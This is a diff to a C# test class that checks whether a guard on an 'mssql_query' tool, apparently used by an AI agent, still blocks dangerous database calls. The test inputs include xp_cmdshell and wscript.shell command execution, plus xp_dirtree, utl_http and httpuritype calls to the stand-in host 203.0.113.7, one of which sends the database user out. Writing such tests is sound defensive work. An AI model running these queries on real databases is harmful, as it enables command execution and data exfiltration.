@@ -67,6 +67,9 @@ public sealed class RequestNinthPassTests
     [InlineData("{\"query\":\"xp_cmdshell 'net user'\"}")]
     [InlineData("{\"query\":\"SELECT 1; EXECUTE sp_oacreate 'wscript.shell', @o OUT\"}")]
     [InlineData("{\"query\":\"declare @x int; exec xp_dirtree '\\\\\\\\203.0.113.7\\\\s'\"}")]
+    [InlineData("{\"sql\":\"SELECT utl_http.request('http://203.0.113.7/'||user) FROM dual\"}")]
+    [InlineData("{\"sql\":\"SELECT SYS.UTL_HTTP.REQUEST('http://203.0.113.7/') FROM dual\"}")]
+    [InlineData("{\"sql\":\"SELECT httpuritype('http://203.0.113.7/x').getclob() FROM dual\"}")]
     public void Still_blocks_a_procedure_that_is_called(string arguments)
     {
         var verdict = Call("mssql_query", arguments);
